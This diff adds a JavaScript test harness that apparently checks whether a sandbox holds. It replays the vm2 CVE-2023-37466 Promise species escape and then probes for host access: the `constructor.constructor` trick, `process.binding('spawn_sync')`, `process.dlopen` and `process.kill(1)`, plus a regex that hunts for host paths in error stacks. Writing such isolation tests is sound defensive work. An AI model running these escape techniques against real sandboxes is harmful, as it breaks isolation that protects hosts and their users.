@@ -1,0 +1,84 @@
+// CVE-2023-37466 (GHSA-cchq-frgv-rjh5), vm2: what a promise's handlers were given was cleaned; a species of one's own has them called
+// by another way, with an error of the host as it is.
+const attacks = {
+  species: {
+    ends: ["ok"],
+    async run() {
+      const got = [];
+      const sources = () => [
+        fetch("http://127.0.0.1/"),
+        import("node:sqlite"),
+        (async () => null.x)(),
+        new Response("{").json(),
+        crypto.subtle.digest("x", new Uint8Array()),
+      ];
+      for (const promise of sources()) {
+        class Mine extends Promise {
+          constructor(executor) {
+            super((resolve, reject) => {
+              got.push(resolve, reject);
+              executor(
+                (value) => (got.push(value), resolve()),
+                (error) => (got.push(error), resolve()),
+              );
+            });
+          }
+        }
+        promise.constructor = { [Symbol.species]: Mine };
+        await promise.then();
+        await promise.finally(() => {}).catch(() => {});
+      }
+      return probe(...got);
+    },
+  },
+};
+
+const names = Object.getOwnPropertyNames(globalThis);
+/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
+function probe(...got) {
+  const reached = [];
+  const say = (what) => void reached.push(what);
+  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
+    try {
+      const world = value?.constructor?.constructor?.("return this")();
+      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
+    } catch {}
+    if (!(value instanceof Error)) continue;
+    const [text] =
+      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
+        `${value.stack} ${value.message}`,
+      ) ?? [];
+    if (text !== undefined) say(`an error's text tells ${text}`);
+  }
+  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
+    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
+  }
+  if (process.mainModule !== undefined) say("process.mainModule");
+  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
+  for (const open of [
+    () => process.binding("fs"),
+    () => process.binding("spawn_sync"),
+    () => process.dlopen({}, "x"),
+    () => process._linkedBinding("fs"),
+    () => process.kill(1),
+  ]) {
+    try {
+      say(`${open} gave ${open()}`);
+    } catch (error) {
+      if (!(error instanceof Error)) say(`${open} threw ${error}`);
+    }
+  }
+  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
+  if (more.length > 0) say(`the globals ${more}`);
+  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
+}
+
+export default {
+  async fetch(request) {
+    const name = new URL(request.url).searchParams.get("attack");
+    if (name === null) {
+      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
+    }
+    return new Response((await attacks[name].run(request)) ?? "held");
+  },
+};
